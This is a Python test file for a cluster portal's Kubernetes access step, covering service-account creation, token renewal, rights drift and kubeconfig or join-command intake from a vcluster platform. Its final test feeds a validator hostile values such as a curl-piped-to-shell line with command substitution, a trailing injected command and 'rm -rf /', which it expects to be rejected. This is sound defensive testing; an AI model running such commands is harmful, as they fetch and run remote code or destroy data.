"""The portal's own account in a tenant's cluster: made once with the first credential, renewed by itself."""

from __future__ import annotations

import dataclasses
import datetime as dt
from collections.abc import Iterator, Mapping

import pytest

from clusters.clients.kube import errors
from clusters.clients.kube.client import KubeClient
from clusters.clients.kube.models import Access, Ref
from clusters.drivers.vcluster_platform import AccessStep, Entrance, PlatformSettings, join_command
from clusters.drivers.vcluster_platform.kinds import INSTANCE
from clusters.kube import exported, kinds, objects, rights, tenant
from clusters.kube.portal_access import life_of
from clusters.provisioning.steps import StepContext
from portal.lib.errors import PermanentError, TemporaryError
from tests.contract.driver_contract import settle
from tests.contract.kube.driven import spec_of
from tests.kube import roles, vendor_platform
from tests.kube.platform_proxy import PlatformProxy, no_kubeconfig
from tests.kube.platform_proxy import join_command as told_command
from tests.kube.server import KubeServer
from tests.kube.tidy import clear_namespace
from tests.kube.vendors import Hands

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("kube")]
SETTINGS = PlatformSettings.from_site({"vcluster_platform": {"template": "gpu-slurm"}})


def context() -> StepContext:
    """A cluster, whose kept secrets are found by the next look."""
    kept: dict[str, bytes] = {}
    return StepContext(spec=spec_of(), secrets=kept, keep=lambda name, value, _: kept.update({name: value}))


@pytest.fixture
def ctx(kube_server: KubeServer) -> Iterator[StepContext]:
    """The server plays the tenant's; nothing of ours is on it before and after."""
    _sweep(kube_server)
    yield context()
    _sweep(kube_server)


def _sweep(server: KubeServer) -> None:
    hands = Hands(server.client)
    for one in rights.wanted(spec_of(), "access"):
        if one.kind != kinds.NAMESPACE:
            hands.release(one.ref)
    clear_namespace(server, "freehold")


def expired(monkeypatch: pytest.MonkeyPatch, hours: float) -> None:
    """So much later."""
    later = dt.datetime.now(tz=dt.UTC) + dt.timedelta(hours=hours)
    monkeypatch.setattr("portal.lib.clock.now", lambda: later)


class Counted:
    """The first credential, and how often it was asked for."""

    def __init__(self, access: Access) -> None:
        self.access, self.asked = access, 0

    def __call__(self, _: StepContext) -> Access:
        self.asked += 1
        return self.access


def test_the_account_is_made_once_and_has_no_more_rights_than_its_file(
    kube_server: KubeServer, ctx: StepContext
) -> None:
    first = Counted(kube_server.admin)
    step = AccessStep(first)
    before = step.observe(ctx)
    assert (before.exists, before.reason) == (False, "NoAccessYet")
    assert {change.action for change in step.preview(ctx)} == {"create"}
    seen = settle(step, ctx)
    assert step.preview(ctx) == ()
    assert first.asked == 1
    assert seen.facts["endpoint"] == kube_server.url
    assert seen.facts["version"].startswith("v1.")
    assert seen.facts["ca_fingerprint"].count(":") == 31
    access = tenant.access_of(ctx.secrets)
    assert (access.certificate_pem, access.key_pem) == (b"", b"")
    client = KubeClient(access)
    client.list(kinds.NODE)  # may look at them
    with pytest.raises(errors.Forbidden):
        client.get(Ref(kinds.CLUSTER_ROLE, "cluster-admin"))
    with pytest.raises(errors.Forbidden):
        client.list(
            kinds.SERVICE_ACCOUNT.__class__("policy/v1", "PodDisruptionBudget", "poddisruptionbudgets")
        )


def test_a_token_past_half_of_its_life_is_renewed_by_the_account_itself(
    kube_server: KubeServer, ctx: StepContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = Counted(kube_server.admin)
    step = AccessStep(first)
    settle(step, ctx)
    old = tenant.access_of(ctx.secrets).token
    life = life_of(old)
    half = (life.ends - life.begins).total_seconds() / 7200
    expired(monkeypatch, half - 0.1)
    assert step.observe(ctx).in_sync
    expired(monkeypatch, half + 0.1)
    seen = step.observe(ctx)
    assert (seen.in_sync, seen.ready, seen.reason, seen.routine) == (False, True, "AccessRenewal", True)
    step.apply(ctx)
    assert tenant.access_of(ctx.secrets).token != old
    assert first.asked == 1  # nobody needed the first credential for that
    assert old not in repr(seen) + repr(ctx)


def test_rights_changed_by_hand_are_shown_and_mended(kube_server: KubeServer, ctx: StepContext) -> None:
    first = Counted(kube_server.admin)
    step = AccessStep(first)
    settle(step, ctx)
    role = next(one.ref for one in rights.wanted(ctx.spec, "access") if one.kind == kinds.CLUSTER_ROLE)
    extra = [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]
    found = kube_server.client.get(role)
    assert found is not None
    assert Hands(kube_server.client).patch(role, {"rules": [*found["rules"], *extra]})
    seen = step.observe(ctx)
    assert (seen.reason, [one.path for one in seen.differences]) == ("Drift", ["rules"])
    assert step.preview(ctx)[0].action == "change"
    settle(step, ctx)
    mended = kube_server.client.get(role)
    assert mended is not None
    assert mended["rules"] == found["rules"]
    assert first.asked == 2


def test_a_lost_account_is_made_again(kube_server: KubeServer, ctx: StepContext) -> None:
    step = AccessStep(Counted(kube_server.admin))
    settle(step, ctx)
    Hands(kube_server.client).release(rights.ACCOUNT)
    assert step.observe(ctx).reason in {"AccessLost", "AccessNotGranted", "Drift"}
    settle(step, ctx, seconds=60)


def test_an_account_of_somebody_else_is_left_alone(kube_server: KubeServer, ctx: StepContext) -> None:
    kube_server.ensure_namespace("freehold")
    theirs = objects.manifest(kinds.SERVICE_ACCOUNT, "portal", {}, namespace="freehold")
    kube_server.client.apply(theirs, kinds.SERVICE_ACCOUNT)
    before = kube_server.client.get(rights.ACCOUNT)
    with pytest.raises(PermanentError) as refused:
        AccessStep(Counted(kube_server.admin)).apply(ctx)
    assert refused.value.reason == "NameTaken"
    assert kube_server.client.get(rights.ACCOUNT) == before


def test_nothing_is_left_to_remove_and_the_step_says_so(ctx: StepContext) -> None:
    going = dataclasses.replace(ctx, facts={"access": {}})
    step = AccessStep(Counted(Access("https://127.0.0.1:9", b"-----BEGIN CERTIFICATE-----\n")))
    assert step.observe(going).exists is False
    step.remove(going)


# -- how it comes in first


def at_platform(
    server: KubeServer, platform: PlatformProxy, **section: object
) -> tuple[Entrance, StepContext]:
    """A cluster that the Platform has; the portal under the rights of deploy/rbac."""
    settings = PlatformSettings.from_site({"vcluster_platform": {"template": "gpu-slurm", **section}})
    ctx = context()
    namespace = settings.namespace(ctx.spec)
    server.ensure_namespace(namespace)
    server.client.apply(
        objects.manifest(INSTANCE, ctx.spec.name, {"spec": {}}, namespace=namespace), INSTANCE
    )
    own = roles.access(server, "control-plane")
    clients = KubeClient(platform.access(own.token))
    return Entrance(settings, lambda _: clients, lambda _: KubeClient(own)), ctx


def test_the_platforms_kubeconfig_is_parsed_and_never_followed(
    kube_server: KubeServer, platform: PlatformProxy
) -> None:
    enter, ctx = at_platform(kube_server, platform, public_address=kube_server.url)
    try:
        with pytest.raises(TemporaryError) as early:
            enter(ctx)
        assert early.value.reason == "KubeconfigNotReady"
        asked: list[Mapping[str, object]] = []

        def give(namespace: str, name: str, spec: dict[str, object]) -> str:
            asked.append({**spec, "of": f"{namespace}/{name}"})
            return vendor_platform.kubeconfig(kube_server.admin, server="https://localhost:8443")

        platform.platform.kubeconfig = give
        access = enter(ctx)
        assert access.server == kube_server.url  # in place of localhost
        assert KubeClient(access).version().startswith("v1.")
        of = f"p-{ctx.spec.name}/{ctx.spec.name}"
        assert asked == [{"certificateTTL": 3600, "clientCert": True, "server": kube_server.url, "of": of}]
        platform.platform.kubeconfig = lambda *_: "apiVersion: v1\nkind: Config\nusers: [{exec: {}}]\n"
        with pytest.raises(PermanentError) as refused:
            enter(ctx)
        assert refused.value.reason == "KubeconfigRefused"
    finally:
        platform.platform.kubeconfig = no_kubeconfig


def test_without_a_public_address_localhost_is_not_ready(
    kube_server: KubeServer, platform: PlatformProxy
) -> None:
    enter, ctx = at_platform(kube_server, platform)
    try:
        local = vendor_platform.kubeconfig(kube_server.admin, server="https://localhost:8443")
        platform.platform.kubeconfig = lambda *_: local
        with pytest.raises(TemporaryError) as early:
            enter(ctx)
        assert early.value.reason == "KubeconfigNotReady"
        public = vendor_platform.kubeconfig(kube_server.admin, server="https://c-1.example.com:6443")
        platform.platform.kubeconfig = lambda *_: public
        assert enter(ctx).server == "https://c-1.example.com:6443"
    finally:
        platform.platform.kubeconfig = no_kubeconfig


def test_an_exported_secret_is_the_other_way_in(kube_server: KubeServer, platform: PlatformProxy) -> None:
    enter, ctx = at_platform(
        kube_server, platform, access="secret", cluster="loft-cluster", public_address=kube_server.url
    )
    namespace = f"vc-{ctx.spec.name}"
    kube_server.ensure_namespace(namespace)
    with pytest.raises(TemporaryError):
        enter(ctx)
    content = vendor_platform.kubeconfig(kube_server.admin, server="https://localhost:8443").encode()
    made = objects.secret("freehold-kubeconfig", {"config": content}, namespace=namespace)
    kube_server.client.apply(made.manifest, kinds.SECRET)
    assert enter(ctx).server == kube_server.url
    other = objects.secret("vc-other", {"config": content}, namespace=namespace)
    kube_server.client.apply(other.manifest, kinds.SECRET)
    with pytest.raises(errors.Forbidden):
        exported.read(KubeClient(roles.access(kube_server, "control-plane")), "vc-other", namespace=namespace)


def test_a_join_command_is_one_plain_line(kube_server: KubeServer, platform: PlatformProxy) -> None:
    _, ctx = at_platform(kube_server, platform)
    clients = KubeClient(platform.access(roles.access(kube_server, "control-plane").token))
    settings = dataclasses.replace(SETTINGS, profile="gpu-compute")
    try:
        assert join_command(ctx, settings, lambda _: clients).endswith("| sh -")
        for told in (
            "",
            "curl -k https://a/$(id) | sh -",
            "curl -k https://a | sh -; id",
            "a\nb",
            "rm -rf /",
        ):
            platform.platform.joinscript = lambda *_, told=told: told
            with pytest.raises(TemporaryError) as early:
                join_command(ctx, settings, lambda _: clients)
            assert early.value.reason == "JoinNotReady"
    finally:
        platform.platform.joinscript = told_command
